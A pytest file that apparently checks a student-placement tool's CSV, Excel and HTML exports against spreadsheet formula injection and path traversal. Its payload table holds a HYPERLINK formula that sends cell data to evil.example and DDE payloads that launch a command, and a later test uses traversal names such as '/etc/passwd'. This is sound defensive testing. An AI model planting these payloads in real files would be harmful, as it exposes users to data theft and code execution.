"""No formula or code injection through any export (OWASP CSV injection).

Outside parties' text (host names, titles, venues, school names, notes) carrying formula
payloads goes through every export: the plan's CSV files, ``diff``'s CSV files, ``report.xlsx``,
``report.html``, pseudonymised exports and the dataset writers. No CSV cell a spreadsheet would
run survives (read with ``,`` as written, and with ``;`` as French Excel splits it), no workbook
cell is a formula, ids and numbers stay exact, and a dataset written as CSV or workbook reads
back equal.
"""

from __future__ import annotations

import csv
import shutil
from html import escape
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stagematch.cells import TRIGGERS, is_formula_like, neutralise, restore
from stagematch.cli import main
from stagematch.errors import InvalidInputError
from stagematch.io import load, write_dataset
from stagematch.model import Instance

VALID = Path(__file__).parent / "data" / "valid"

PAYLOADS = {
    ("offers", "host_name"): '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ("offers", "sector"): "+cmd|' /C calc'!A0",
    ("workshop_slots", "title"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("workshop_slots", "venue"): "-2+3+cmd|' /C calc'!A0",
    ("workshop_slots", "association"): "x;=cmd|' /C calc'!A0",  # a cell French Excel would split
    ("schools", "name"): "\t=1+1",
    ("students", "note"): "=evil()",
}


def poisoned(tmp_path: Path) -> Path:
    """The valid dataset with a formula payload in every text column that outside parties fill."""
    folder = Path(shutil.copytree(VALID, tmp_path / "dataset"))
    for (table, column), payload in PAYLOADS.items():
        path = folder / f"{table}.csv"
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        k = rows[0].index(column)
        for row in rows[1:]:
            row[k] = payload
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)
    return folder


def csv_cells(path: Path, delimiter: str) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def assert_inert_csv(path: Path) -> None:
    """Read as written and as a spreadsheet with another delimiter would: nothing runs."""
    for delimiter in (",", ";"):
        for cell in csv_cells(path, delimiter):
            for line in cell.splitlines() or [""]:
                assert not is_formula_like(line), (path.name, delimiter, cell)


def assert_inert_workbook(path: Path) -> int:
    """No formula anywhere; text that would run carries the quote prefix. Returns how many."""
    book = openpyxl.load_workbook(path)
    guarded = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    guarded += 1
    return guarded


def test_every_plan_export_is_inert_and_ids_stay_exact(tmp_path: Path) -> None:
    folder = poisoned(tmp_path)
    plan = tmp_path / "plan"
    assert main(["solve", str(folder), "--out", str(plan), "--time-limit", "5", "--report"]) == 0
    for name in ("assignments.csv", "unplaced.csv"):
        assert_inert_csv(plan / name)
    guarded = assert_inert_workbook(plan / "report.xlsx")
    assert guarded > 0  # the payloads are there, as text
    book = openpyxl.load_workbook(plan / "report.xlsx")
    values = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
    assert PAYLOADS[("offers", "host_name")] in values  # exact, not mangled
    html = (plan / "report.html").read_text("utf-8")
    assert escape(PAYLOADS[("offers", "host_name")]) in html
    instance = load(folder)
    with (plan / "assignments.csv").open(encoding="utf-8", newline="") as handle:
        written = {row["student_id"] for row in csv.DictReader(handle)}
    assert written <= {s.student_id for s in instance.students}

    # diff's CSV files, with letters carrying host names and session titles
    plan2 = tmp_path / "plan2"
    assert (
        main(["solve", str(folder), "--out", str(plan2), "--time-limit", "5", "--seed", "3"]) == 0
    )
    changes = tmp_path / "changes"
    assert main(["diff", str(plan), str(plan2), "--out", str(changes)]) == 0
    for name in ("changes.csv", "letters_changed.csv"):
        assert_inert_csv(changes / name)
    # where to recruit, and scenarios side by side
    assert main(["gaps", str(plan), "--out", str(tmp_path / "gaps")]) == 0
    assert main(["compare", str(plan), str(plan2), "--out", str(tmp_path / "cmp")]) == 0
    for path in [*(tmp_path / "gaps").glob("*.csv"), tmp_path / "cmp" / "compare.csv"]:
        assert_inert_csv(path)

    # pseudonymised exports go through the same writers
    shared = tmp_path / "shared"
    key = tmp_path / "key.csv"
    args = ["solve", str(folder), "--out", str(shared), "--time-limit", "5", "--report"]
    assert main([*args, "--pseudonymise", "--key-file", str(key)]) == 0
    assert_inert_csv(shared / "assignments.csv")
    assert_inert_workbook(shared / "report.xlsx")


@pytest.mark.parametrize("suffix", ["", ".xlsx"])
def test_dataset_writers_are_inert_and_read_back_equal(tmp_path: Path, suffix: str) -> None:
    instance = load(poisoned(tmp_path))
    target = tmp_path / f"written{suffix}"
    write_dataset(instance, target)
    if suffix:
        assert assert_inert_workbook(target) > 0
    else:
        for path in target.glob("*.csv"):
            assert_inert_csv(path)
    assert load(target) == instance
    assert load(target).offers[0].host_name == PAYLOADS[("offers", "host_name")]


@pytest.mark.parametrize("offer_id", ["=O3", "+O3", "-O3", "@O3", "O,=3", "O\n-3"])
def test_ids_a_spreadsheet_would_run_are_refused(tmp_path: Path, offer_id: str) -> None:
    """Ids are written unchanged everywhere, so one that would need a quote is refused.
    (A leading tab or carriage return is whitespace, stripped like any around an id.)"""
    folder = Path(shutil.copytree(VALID, tmp_path / "dataset"))
    path = folder / "offers.csv"
    text = path.read_text("utf-8").replace("\nO3,", f'\n"{offer_id}",')
    path.write_text(text, "utf-8")
    with pytest.raises(InvalidInputError) as caught:
        load(folder)
    assert ("offers", 4, "offer_id") in {(p.table, p.row, p.column) for p in caught.value.problems}


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    """West of Greenwich (Brest): a longitude is a number, never quoted or prefixed."""
    instance = load(VALID)
    data = instance.to_dict()
    data["offers"][0]["lon"] = -4.486
    data["offers"][0]["lat"] = 48.39
    moved = Instance.from_dict(data)
    write_dataset(moved, tmp_path / "out")
    text = (tmp_path / "out" / "offers.csv").read_text("utf-8")
    assert ",-4.486," in text
    assert load(tmp_path / "out").offers[0].lon == -4.486


@given(st.text(alphabet=st.sampled_from(["'", ",", ";", "\n", "a", *TRIGGERS])) | st.text())
def test_neutralise_then_restore_is_the_identity(text: str) -> None:
    inert = neutralise(text)
    pieces = inert.replace(";", ",").replace("\r", "\n").replace("\n", ",").split(",")
    assert not any(is_formula_like(piece) for piece in pieces), inert
    assert restore(inert) == text


def test_file_names_from_ids_stay_inside_the_output_folder(tmp_path: Path) -> None:
    """Host and session ids become letter file names: none may leave the plan folder."""
    folder = Path(shutil.copytree(VALID, tmp_path / "dataset"))
    hostile = ["../../../escaped", "CON", "/etc/passwd", "..\\..\\win", "a/../../b"]
    for table, column in (("offers", "host_id"), ("workshop_slots", "slot_id")):
        path = folder / f"{table}.csv"
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        k = rows[0].index(column)
        for n, row in enumerate(rows[1:]):
            row[k] = hostile[n % len(hostile)] + ("" if column == "host_id" else str(n))
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)
    (folder / "travel_times.csv").unlink()  # its destinations named the old slot ids
    plan = tmp_path / "deep" / "plan"
    assert main(["solve", str(folder), "--out", str(plan), "--time-limit", "5", "--report"]) == 0
    letters = [p for p in (plan / "letters").rglob("*") if p.is_file()]
    assert letters
    root = plan.resolve()
    for path in letters:
        assert path.resolve().is_relative_to(root / "letters"), path
    outside = {p.name for p in tmp_path.rglob("*")} - {p.name for p in plan.rglob("*")}
    assert not {"escaped", "passwd", "win", "b"} & outside
